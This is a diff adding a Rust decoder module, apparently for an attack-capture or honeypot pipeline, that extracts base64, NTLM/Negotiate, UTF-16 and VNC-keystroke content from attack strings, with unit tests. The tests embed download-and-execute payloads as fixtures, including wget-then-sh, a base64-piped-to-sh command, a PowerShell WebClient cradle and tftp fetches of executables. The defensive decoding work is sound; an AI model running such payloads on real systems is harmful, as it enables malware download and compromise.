@@ -1,18 +1,424 @@
 //! Decoders of the pre-processing stage (SPEC §7.4, §8.5–§8.7): pure functions from an
 //! attack string to derived attack strings. Replaces htm_b64Decode.c, htm_deUnicode.c and
 //! the keystroke part of htm_vncDownload.c.
-pub fn base64_decode(_i: &[u8]) -> Option<Vec<u8>> {
-    None
+//!
+//! Each derived string runs through the rest of the pipeline (command extraction and
+//! downloads); downloads found in it belong to the original attack. Every function here is
+//! linear in its input and allocates at most a few times the input size.
+//!
+//! Deliberate differences from the C plugins: the base64 decoder is a correct RFC 4648 one
+//! (the original assembled 3-character groups with wrong bit arithmetic, SPEC §8.6), accepts
+//! the URL-safe alphabet, and `Negotiate`/`NTLM` are matched in any letter case;
+//! `vnc_keystrokes` never reads past a short input (SPEC §13.3).
+
+/// Most base64 runs `base64_runs` returns.
+pub const MAX_RUNS: usize = 16;
+/// Most blobs `negotiate_blobs` returns.
+pub const MAX_BLOBS: usize = 16;
+/// Shortest run of base64 characters `base64_runs` considers.
+pub const MIN_RUN: usize = 16;
+
+/// The value of a base64 character in the standard or the URL-safe alphabet.
+fn b64_value(c: u8) -> Option<u8> {
+    match c {
+        b'A'..=b'Z' => Some(c - b'A'),
+        b'a'..=b'z' => Some(c - b'a' + 26),
+        b'0'..=b'9' => Some(c - b'0' + 52),
+        b'+' | b'-' => Some(62),
+        b'/' | b'_' => Some(63),
+        _ => None,
+    }
 }
-pub fn negotiate_blobs(_a: &[u8]) -> Vec<Vec<u8>> {
-    Vec::new()
+
+/// Decodes base64 in the standard (`+/`) or URL-safe (`-_`) alphabet. Padding is optional,
+/// but `=` may only end the input; ASCII whitespace is ignored. `None` when the input is
+/// empty, contains other characters, or has a length no base64 encoder produces.
+pub fn base64_decode(input: &[u8]) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(input.len() / 4 * 3 + 3);
+    let mut acc: u32 = 0;
+    let mut n = 0usize; // symbols in the current group
+    let mut symbols = 0usize;
+    let mut pad = 0usize;
+    for &c in input {
+        if c.is_ascii_whitespace() {
+            continue;
+        }
+        if c == b'=' {
+            pad += 1;
+            if pad > 2 {
+                return None;
+            }
+            continue;
+        }
+        if pad > 0 {
+            return None; // data after padding
+        }
+        let v = b64_value(c)?;
+        acc = (acc << 6) | u32::from(v);
+        n += 1;
+        symbols += 1;
+        if n == 4 {
+            out.extend_from_slice(&[(acc >> 16) as u8, (acc >> 8) as u8, acc as u8]);
+            acc = 0;
+            n = 0;
+        }
+    }
+    match n {
+        0 if pad == 0 => {}
+        2 => out.push((acc >> 4) as u8),
+        3 => out.extend_from_slice(&[(acc >> 10) as u8, (acc >> 2) as u8]),
+        _ => return None,
+    }
+    if pad > 0 && (symbols + pad) % 4 != 0 {
+        return None;
+    }
+    if out.is_empty() {
+        return None;
+    }
+    Some(out)
 }
-pub fn base64_runs(_a: &[u8]) -> Vec<Vec<u8>> {
-    Vec::new()
+
+fn is_b64_char(c: u8) -> bool {
+    b64_value(c).is_some()
 }
-pub fn de_unicode(_a: &[u8]) -> Option<Vec<u8>> {
-    None
+
+/// Case-insensitive: does `hay` start with `needle` at `at`?
+fn starts_ci(hay: &[u8], at: usize, needle: &[u8]) -> bool {
+    hay.get(at..at + needle.len()).is_some_and(|s| s.eq_ignore_ascii_case(needle))
 }
-pub fn vnc_keystrokes(_a: &[u8]) -> Option<Vec<u8>> {
-    None
+
+/// The bodies of `Authorization: Negotiate <base64>` / `NTLM <base64>` style credentials
+/// (the b64Decode plugin's trigger, the ASN.1/SPNEGO exploits), decoded. At most
+/// `MAX_BLOBS`, in order of appearance.
+pub fn negotiate_blobs(attack: &[u8]) -> Vec<Vec<u8>> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < attack.len() && out.len() < MAX_BLOBS {
+        let kw = if starts_ci(attack, i, b"negotiate ") {
+            10
+        } else if starts_ci(attack, i, b"ntlm ") {
+            5
+        } else {
+            i += 1;
+            continue;
+        };
+        // The keyword must start a word (`WWW-Authenticate: Negotiate`, not `xntlm`).
+        if i > 0 && attack[i - 1].is_ascii_alphanumeric() {
+            i += 1;
+            continue;
+        }
+        let mut j = i + kw;
+        while attack.get(j) == Some(&b' ') {
+            j += 1;
+        }
+        let start = j;
+        while attack.get(j).is_some_and(|&c| is_b64_char(c)) {
+            j += 1;
+        }
+        let mut pads = 0;
+        while pads < 2 && attack.get(j) == Some(&b'=') {
+            j += 1;
+            pads += 1;
+        }
+        if let Some(d) = base64_decode(&attack[start..j]) {
+            out.push(d);
+        }
+        i = j.max(i + 1);
+    }
+    out
+}
+
+/// Is this decoded run worth a derived attack string: mostly printable text (also as
+/// UTF-16LE), or the start of a PE or ELF binary?
+fn interesting(d: &[u8]) -> bool {
+    if d.starts_with(b"MZ") || d.starts_with(b"\x7fELF") {
+        return d.len() >= 4;
+    }
+    if d.len() < 8 {
+        return false;
+    }
+    let printable = |c: &u8| matches!(*c, 0x20..=0x7e | b'\t' | b'\r' | b'\n');
+    let text = d.iter().filter(|c| printable(c)).count();
+    if text * 10 >= d.len() * 9 {
+        return true;
+    }
+    // UTF-16LE text: printable low bytes, zero high bytes.
+    let lows = d.iter().step_by(2).filter(|c| printable(c)).count();
+    let highs = d.iter().skip(1).step_by(2).filter(|&&c| c == 0).count();
+    let half = d.len() / 2;
+    half > 0 && lows * 10 >= d.len().div_ceil(2) * 9 && highs * 10 >= half * 9
+}
+
+/// Other embedded base64 runs: maximal runs of at least `MIN_RUN` base64 characters
+/// (optionally followed by `=` padding) whose decoding is mostly printable text (ASCII or
+/// UTF-16LE) or starts with a binary magic (`MZ`, `\x7fELF`). Runs that follow `Negotiate `
+/// or `NTLM ` are left to `negotiate_blobs`. A run whose length is one more than a multiple
+/// of four loses its last character. At most `MAX_RUNS` results.
+pub fn base64_runs(attack: &[u8]) -> Vec<Vec<u8>> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < attack.len() && out.len() < MAX_RUNS {
+        if !is_b64_char(attack[i]) {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        while attack.get(i).is_some_and(|&c| is_b64_char(c)) {
+            i += 1;
+        }
+        let mut end = i;
+        let mut pads = 0;
+        while pads < 2 && attack.get(end) == Some(&b'=') {
+            end += 1;
+            pads += 1;
+        }
+        let symbols = i - start;
+        if symbols < MIN_RUN || after_auth_keyword(attack, start) {
+            i = end;
+            continue;
+        }
+        let run = if symbols % 4 == 1 { &attack[start..i - 1] } else { &attack[start..end] };
+        // Padding that does not fit the length: decode without it.
+        let decoded = base64_decode(run).or_else(|| base64_decode(&attack[start..i]));
+        if let Some(d) = decoded {
+            if interesting(&d) {
+                out.push(d);
+            }
+        }
+        i = end;
+    }
+    out
+}
+
+/// Is `start` the first byte after `Negotiate ` / `NTLM ` (plus spaces)?
+fn after_auth_keyword(attack: &[u8], start: usize) -> bool {
+    let mut j = start;
+    while j > 0 && attack[j - 1] == b' ' {
+        j -= 1;
+    }
+    if j == start {
+        return false;
+    }
+    (j >= 9 && attack[j - 9..j].eq_ignore_ascii_case(b"negotiate"))
+        || (j >= 4 && attack[j - 4..j].eq_ignore_ascii_case(b"ntlm"))
+}
+
+/// SPEC §8.7: when more than a third of the bytes are zero, the attack is taken as UTF-16:
+/// alignment 0 if more than half of the zero bytes are at odd offsets, else 1; the result is
+/// every second byte from the alignment on. `None` when the rule does not apply.
+pub fn de_unicode(attack: &[u8]) -> Option<Vec<u8>> {
+    let zeros = attack.iter().filter(|&&c| c == 0).count();
+    if attack.is_empty() || zeros * 3 <= attack.len() {
+        return None;
+    }
+    let odd_zeros = attack.iter().skip(1).step_by(2).filter(|&&c| c == 0).count();
+    let align = if odd_zeros * 2 > zeros { 0 } else { 1 };
+    let out: Vec<u8> = attack.iter().skip(align).step_by(2).copied().collect();
+    if out.is_empty() {
+        None
+    } else {
+        Some(out)
+    }
+}
+
+/// The RFB greeting a VNC session starts with (SPEC §8.5).
+const RFB_MAGIC: &[u8] = b"RFB 003.008";
+
+/// SPEC §8.5: the text typed in a VNC session. The attack must start with `RFB 003.008`;
+/// the printable bytes after it, without leading `r` and trailing `Q` characters, with each
+/// pair of equal neighbours (key down, key up) reduced to one character. `None` when the
+/// attack is not such a session or nothing remains.
+pub fn vnc_keystrokes(attack: &[u8]) -> Option<Vec<u8>> {
+    let rest = attack.strip_prefix(RFB_MAGIC)?;
+    let printable: Vec<u8> = rest.iter().copied().filter(|c| (0x20..=0x7e).contains(c)).collect();
+    let start = printable.iter().position(|&c| c != b'r')?;
+    let end = printable.iter().rposition(|&c| c != b'Q')? + 1;
+    if start >= end {
+        return None;
+    }
+    let s = &printable[start..end];
+    // Delete character i when it equals character i+1, then continue after the survivor
+    // (the C loop's order): "aaaa" (two key presses) becomes "aa".
+    let mut out = Vec::with_capacity(s.len());
+    let mut i = 0;
+    while i < s.len() {
+        if i + 1 < s.len() && s[i] == s[i + 1] {
+            i += 1;
+        }
+        out.push(s[i]);
+        i += 1;
+    }
+    if out.is_empty() {
+        None
+    } else {
+        Some(out)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wire::testutil::XorShift;
+
+    fn enc(data: &[u8]) -> String {
+        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let mut s = String::new();
+        for ch in data.chunks(3) {
+            let b = [ch[0], *ch.get(1).unwrap_or(&0), *ch.get(2).unwrap_or(&0)];
+            let v = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+            for k in 0..4 {
+                if k <= ch.len() {
+                    s.push(A[(v >> (18 - 6 * k)) as usize & 63] as char);
+                } else {
+                    s.push('=');
+                }
+            }
+        }
+        s
+    }
+
+    #[test]
+    fn base64_known_vectors() {
+        // RFC 4648 §10.
+        let cases: &[(&str, &str)] = &[
+            ("Zg==", "f"),
+            ("Zm8=", "fo"),
+            ("Zm9v", "foo"),
+            ("Zm9vYg==", "foob"),
+            ("Zm9vYmE=", "fooba"),
+            ("Zm9vYmFy", "foobar"),
+            ("Zm9vYg", "foob"),
+            ("Zm9v\r\nYmFy", "foobar"),
+            (" Zm9vYmE ", "fooba"),
+        ];
+        for (e, d) in cases {
+            assert_eq!(base64_decode(e.as_bytes()).as_deref(), Some(d.as_bytes()), "{e}");
+        }
+        assert_eq!(base64_decode(b"-_8="), Some(vec![0xfb, 0xff]));
+        assert_eq!(base64_decode(b"+/8="), Some(vec![0xfb, 0xff]));
+        for bad in ["", "=", "Z", "Zm9vY", "Zm=9v", "Zm9v===", "Zm9v!", "Zg=", "Zm9vYmFy=", "===="] {
+            assert_eq!(base64_decode(bad.as_bytes()), None, "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn base64_round_trip_random() {
+        let mut rng = XorShift(0x05ee_db64);
+        for _ in 0..2000 {
+            let len = rng.below(64) + 1;
+            let data: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
+            let e = enc(&data);
+            assert_eq!(base64_decode(e.as_bytes()).as_deref(), Some(&data[..]));
+            assert_eq!(base64_decode(e.trim_end_matches('=').as_bytes()).as_deref(), Some(&data[..]));
+        }
+    }
+
+    #[test]
+    fn negotiate() {
+        let body = b"wget http://10.1.2.3/x.exe";
+        let a = format!("GET / HTTP/1.1\r\nAuthorization: Negotiate {}\r\n\r\n", enc(body));
+        assert_eq!(negotiate_blobs(a.as_bytes()), vec![body.to_vec()]);
+        let a = format!("Authorization: NTLM {}\r\nX: negotiate {}", enc(b"abc"), enc(b"de"));
+        assert_eq!(negotiate_blobs(a.as_bytes()), vec![b"abc".to_vec(), b"de".to_vec()]);
+        assert!(negotiate_blobs(b"Negotiate !!!").is_empty());
+        assert!(negotiate_blobs(b"Negotiate ").is_empty());
+        assert!(negotiate_blobs(b"xNTLM Zm9v").is_empty());
+    }
+
+    #[test]
+    fn runs() {
+        let cmd = b"cd /tmp; wget http://198.51.100.7/a.sh; sh a.sh";
+        let a = format!("POST /x HTTP/1.1\r\n\r\ncmd=echo {}|base64 -d|sh", enc(cmd));
+        assert_eq!(base64_runs(a.as_bytes()), vec![cmd.to_vec()]);
+        // Unpadded, and a length of 4k+1 loses its last character.
+        let a = format!("x {}A y", enc(&cmd[..45]));
+        assert_eq!(base64_runs(a.as_bytes()), vec![cmd[..45].to_vec()]);
+        // An ELF header is interesting, random binary is not.
+        let elf = b"\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x08\x00";
+        assert_eq!(base64_runs(enc(elf).as_bytes()), vec![elf.to_vec()]);
+        let noise: Vec<u8> = (0u8..48).map(|b| b.wrapping_mul(37).wrapping_add(128)).collect();
+        assert!(base64_runs(enc(&noise).as_bytes()).is_empty());
+        // UTF-16LE text (powershell -enc).
+        let u: Vec<u8> = b"IEX (New-Object Net.WebClient)".iter().flat_map(|&c| [c, 0]).collect();
+        assert_eq!(base64_runs(enc(&u).as_bytes()), vec![u.clone()]);
+        // Short runs, plain words and paths are not base64 text.
+        assert!(base64_runs(b"/usr/local/bin/something-long_enough").is_empty());
+        assert!(base64_runs(b"Zm9vYmFy").is_empty());
+        // Negotiate bodies are left to negotiate_blobs.
+        let a = format!("Authorization: Negotiate {}", enc(cmd));
+        assert!(base64_runs(a.as_bytes()).is_empty());
+        // Bounded count.
+        let many = format!("{} ", enc(cmd)).repeat(100);
+        assert_eq!(base64_runs(many.as_bytes()).len(), MAX_RUNS);
+    }
+
+    #[test]
+    fn unicode() {
+        let u: Vec<u8> = b"tftp -i 1.2.3.4 GET a.exe".iter().flat_map(|&c| [c, 0]).collect();
+        assert_eq!(de_unicode(&u).as_deref(), Some(&b"tftp -i 1.2.3.4 GET a.exe"[..]));
+        // Misaligned (a leading byte): zeros at even offsets, alignment 1.
+        let m = b"\x00g\x00e\x00t\x00 \x00x";
+        assert_eq!(de_unicode(m).as_deref(), Some(&b"get x"[..]));
+        // Odd size with alignment 0 keeps the last byte.
+        assert_eq!(de_unicode(b"a\x00b\x00c").as_deref(), Some(&b"abc"[..]));
+        assert_eq!(de_unicode(b"plain ascii"), None);
+        assert_eq!(de_unicode(b""), None);
+        // Exactly a third is not "more than a third".
+        assert_eq!(de_unicode(b"ab\x00"), None);
+        assert_eq!(de_unicode(b"\x00"), None);
+        assert_eq!(de_unicode(b"\x00\x00").as_deref(), Some(&b"\x00"[..]));
+    }
+
+    #[test]
+    fn vnc() {
+        let mut a = b"RFB 003.008\n\x01\x02".to_vec();
+        for &c in b"rrtftp -i 1.2.3.4 GET a.exe" {
+            a.extend_from_slice(&[4, 1, 0, 0, 0, 0, 0, c, 4, 0, 0, 0, 0, 0, 0, c]);
+        }
+        a.extend_from_slice(b"QQQ");
+        assert_eq!(vnc_keystrokes(&a).as_deref(), Some(&b"tftp -i 1.2.3.4 GET a.exe"[..]));
+        assert_eq!(vnc_keystrokes(b"RFB 003.008aabbbccccQ").as_deref(), Some(&b"abbcc"[..]));
+        assert_eq!(vnc_keystrokes(b"RFB 003.008"), None);
+        assert_eq!(vnc_keystrokes(b"RFB 003.008rrrQQ"), None);
+        assert_eq!(vnc_keystrokes(b"RFB 003.008\x00\x01\x02"), None);
+        assert_eq!(vnc_keystrokes(b"RFB 003"), None);
+        assert_eq!(vnc_keystrokes(b""), None);
+        assert_eq!(vnc_keystrokes(b"RFB 003.007abc"), None);
+    }
+
+    #[test]
+    fn no_panic_random() {
+        let mut rng = XorShift(0xdec0de);
+        let alphabet = b"AZaz09+/-_= \r\n\x00NegotiateNTLM RFB 003.008rQ";
+        for round in 0..3000 {
+            let len = rng.below(300);
+            let mut v: Vec<u8> = (0..len)
+                .map(|_| if round % 2 == 0 { rng.next() as u8 } else { alphabet[rng.below(alphabet.len())] })
+                .collect();
+            if round % 5 == 0 {
+                let mut p = RFB_MAGIC.to_vec();
+                p.append(&mut v);
+                v = p;
+            }
+            let _ = base64_decode(&v);
+            assert!(negotiate_blobs(&v).len() <= MAX_BLOBS);
+            assert!(base64_runs(&v).len() <= MAX_RUNS);
+            if let Some(d) = de_unicode(&v) {
+                assert!(!d.is_empty() && d.len() <= v.len().div_ceil(2));
+            }
+            if let Some(k) = vnc_keystrokes(&v) {
+                assert!(!k.is_empty() && k.len() < v.len());
+            }
+        }
+    }
+
+    #[test]
+    fn linear_on_large_input() {
+        let big = b"Negotiate QUFB ".repeat(200_000);
+        let t = std::time::Instant::now();
+        assert_eq!(negotiate_blobs(&big).len(), MAX_BLOBS);
+        let _ = base64_runs(&b"A".repeat(3 << 20));
+        let _ = de_unicode(&vec![0u8; 3 << 20]);
+        assert!(t.elapsed() < std::time::Duration::from_secs(10));
+    }
 }
